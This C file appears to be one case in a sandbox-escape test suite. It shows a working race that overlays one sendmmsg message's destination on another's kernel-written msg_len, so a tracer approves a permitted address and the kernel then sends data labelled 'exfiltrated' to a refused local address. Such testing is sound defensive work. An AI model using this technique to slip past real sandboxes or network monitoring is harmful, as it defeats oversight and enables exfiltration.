/* net_mmsglen: a sendmmsg whose later message's address is written by the kernel itself.
 *
 * sendmmsg sends its messages one after the other and, after each, writes how many bytes it
 * sent into that message's msg_len -- before it reads the next message's header, name and
 * control data (__sys_sendmmsg: ___sys_sendmsg, then put_user(err, &entry->msg_len)).  A
 * later message whose name (or control data) lies over an earlier msg_len is therefore read
 * by the kernel as the tracer never saw it: no other task writes, the kernel does.
 *
 *   net_mmsglen MODE PORT
 *
 * Permitted: 127.0.0.3 and 127.0.3.3; refused: 127.0.0.2 (net-connect, any port).  A UDP
 * listener on 127.0.0.2:PORT (the test's, outside the tree) is the witness.
 *
 * MODE: name    message 0: 512 bytes to 127.0.0.3:PORT; message 1: its sockaddr_in laid over
 *               the tail of message 0's header, so that sin_addr's last two bytes are
 *               msg[0].msg_len's first two: 127.0.3.3 before the call (msg_len = 0x0303),
 *               127.0.0.2 once the kernel wrote 512 there.
 *       direct  one message to 127.0.0.2:PORT: the rule and the witness at work.
 * Class 7 (network: sendmmsg).
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

int main(int argc, char **argv) {
    if (argc < 3)
        usage("net_mmsglen MODE PORT");
    const char *mode = argv[1];
    int port = atoi(argv[2]);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0)
        blocked("socket: %s", ename(errno));
    static char payload[512];
    memset(payload, 'x', sizeof payload);
    struct iovec iov0 = {.iov_base = payload, .iov_len = sizeof payload};
    struct iovec iov1 = {.iov_base = "exfiltrated", .iov_len = 11};
    struct sockaddr_in first = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, "127.0.0.3", &first.sin_addr);
    /* the array as bytes, so that message 1's name may lie inside message 0's header */
    static struct mmsghdr msgs[2] __attribute__((aligned(64)));
    memset(msgs, 0, sizeof msgs);
    int expect;
    if (!strcmp(mode, "direct")) {
        struct sockaddr_in to = first;
        inet_pton(AF_INET, "127.0.0.2", &to.sin_addr);
        msgs[0].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to,
                                          .msg_iov = &iov1, .msg_iovlen = 1};
        expect = 1;
        int n = sendmmsg(s, msgs, 1, 0);
        if (n == expect)
            escaped("sendmmsg sent its message to 127.0.0.2");
        blocked("sendmmsg: %d %s", n, n < 0 ? ename(errno) : "");
    }
    if (strcmp(mode, "name"))
        usage("unknown mode");
    unsigned char *base = (unsigned char *)&msgs[0];
    /* msghdr: msg_flags at 48..51 (ignored on send), padding 52..55; msg_len at 56..59 */
    unsigned char *name1 = base + 50;  /* family 50..51, port 52..53, addr 54..57 */
    msgs[0].msg_hdr = (struct msghdr){.msg_name = &first, .msg_namelen = sizeof first,
                                      .msg_iov = &iov0, .msg_iovlen = 1};
    uint16_t family = AF_INET, nport = htons(port);
    memcpy(name1, &family, 2);
    memcpy(name1 + 2, &nport, 2);
    name1[4] = 127;
    name1[5] = 0;
    msgs[0].msg_len = 0x0303;  /* addr bytes 6..7 of name1: 127.0.3.3 until the kernel writes */
    msgs[1].msg_hdr = (struct msghdr){.msg_name = name1, .msg_namelen = sizeof(struct sockaddr_in),
                                      .msg_iov = &iov1, .msg_iovlen = 1};
    note("message 1 before the call: %u.%u.%u.%u", name1[4], name1[5], name1[6], name1[7]);
    int n = sendmmsg(s, msgs, 2, 0);
    int e = errno;
    note("sendmmsg: %d (%s), msg_len %u; message 1 after: %u.%u.%u.%u", n,
         n < 0 ? ename(e) : "ok", msgs[0].msg_len, name1[4], name1[5], name1[6], name1[7]);
    if (n == 2 && name1[6] == 0 && name1[7] == 2)
        escaped("message 1 went to 127.0.0.2, the address the kernel wrote");
    blocked("sendmmsg: %d %s", n, n < 0 ? ename(e) : "");
}
